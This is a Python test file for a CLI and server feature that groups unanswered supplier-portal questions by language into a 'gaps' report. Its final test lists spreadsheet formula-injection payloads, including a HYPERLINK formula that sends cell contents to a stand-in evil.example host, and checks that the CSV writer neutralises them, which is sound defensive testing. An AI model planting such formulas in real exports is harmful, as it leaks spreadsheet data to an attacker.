"""The gaps report: similar unanswered questions grouped per language, biggest impact first."""
import csv
import datetime as dt

import pytest
from click.testing import CliRunner

from indexer.cli import main
from indexer.gaps import AskedQuestion, find_gaps, parse_since, write_csv

ASKED = [
    ("en", "How do I reset my CSP password?", "s1"),
    ("en", "I forgot my password for the supplier portal", "s2"),
    ("en", "password reset link is not working", "s3"),
    ("en", "password reset email never arrives", "s3"),
    ("en", "Can I change the remit-to address on my invoices?", "s4"),
    ("ko", "비밀번호를 잊어버렸어요", "k1"),
    ("ko", "비밀번호 재설정은 어떻게 하나요?", "k2"),
    ("ko", "카탈로그 업로드 방법", "k1"),
    ("ko", "카탈로그를 올리고 싶어요", "k3"),
]


def test_similar_questions_are_grouped_per_language(retriever):
    clusters = find_gaps([AskedQuestion(q, lang, "escalated", supplier=s) for lang, q, s in ASKED], retriever)
    groups = {(c.lang, frozenset(q.text for q in c.questions)) for c in clusters}
    assert ("en", frozenset(q for lang, q, _ in ASKED[:4])) in groups
    assert ("en", frozenset([ASKED[4][1]])) in groups
    assert ("ko", frozenset([ASKED[5][1], ASKED[6][1]])) in groups
    assert ("ko", frozenset([ASKED[7][1], ASKED[8][1]])) in groups
    first = clusters[0]
    assert (first.lang, first.size, first.suppliers) == ("en", 4, 3)  # most suppliers first
    assert len(first.examples) == 3 and first.closest_article in retriever.articles
    assert 0.0 <= first.confidence <= 1.0


def test_questions_without_a_known_supplier_each_count_once():
    clusters = find_gaps([AskedQuestion("password reset", "en", "escalated"), AskedQuestion("reset password", "en", "escalated")])
    assert [(c.size, c.suppliers) for c in clusters] == [(2, 2)]


@pytest.mark.parametrize("value, days", [("30d", 30), ("2w", 14), ("12h", 0.5)])
def test_since_accepts_durations(value, days):
    now = dt.datetime(2026, 11, 26, tzinfo=dt.timezone.utc)
    assert now - parse_since(value, now) == dt.timedelta(days=days)
    with pytest.raises(ValueError, match="30d"):
        parse_since("last month", now)


def test_cli_reads_the_servers_database(app, client, instance, tmp_path):
    for _, question, _ in ASKED:
        client.post("/api/v1/ask", json={"question": question, "email": None})
    answered = client.post("/api/v1/ask", json={"question": "Who pays my invoices?"}).get_json()
    client.post("/api/v1/feedback", json={"question_id": answered["question_id"], "helpful": False})
    app.extensions["questions"].flush()  # the server writes its question log in batches; the CLI reads the file
    out = tmp_path / "gaps.csv"
    result = CliRunner().invoke(main, ["gaps", "--instance", str(instance), "--since", "1d", "--csv", str(out)])
    assert result.exit_code == 0, result.output
    assert "10 unanswered or unhelpful question(s)" in result.output
    assert "[en] 3 supplier(s), 4 question(s)" not in result.output  # no emails were given: 4 unknown suppliers
    assert "[en] 4 supplier(s), 4 question(s)" in result.output
    assert "Who pays my invoices?" in result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert rows[0]["lang"] == "en" and rows[0]["questions"] == "4"
    only_ko = CliRunner().invoke(main, ["gaps", "--instance", str(instance), "--lang", "ko"])
    assert "4 unanswered or unhelpful question(s)" in only_ko.output and "[en]" not in only_ko.output


def test_cli_without_a_database_says_so(tmp_path):
    result = CliRunner().invoke(main, ["gaps", "--instance", str(tmp_path)])
    assert result.exit_code == 1 and "no database at sqlite:///" in result.output


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
    clusters = find_gaps([AskedQuestion(q, "en", "escalated", supplier=str(i)) for i, q in enumerate(hostile)])
    out = tmp_path / "gaps.csv"
    write_csv(clusters, out)
    cells = [cell for row in csv.reader(out.open(encoding="utf-8", newline="")) for cell in row]
    examples = [cell for cell in cells if cell.lstrip("'") in hostile]
    assert examples and all(cell.startswith("'") for cell in examples)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
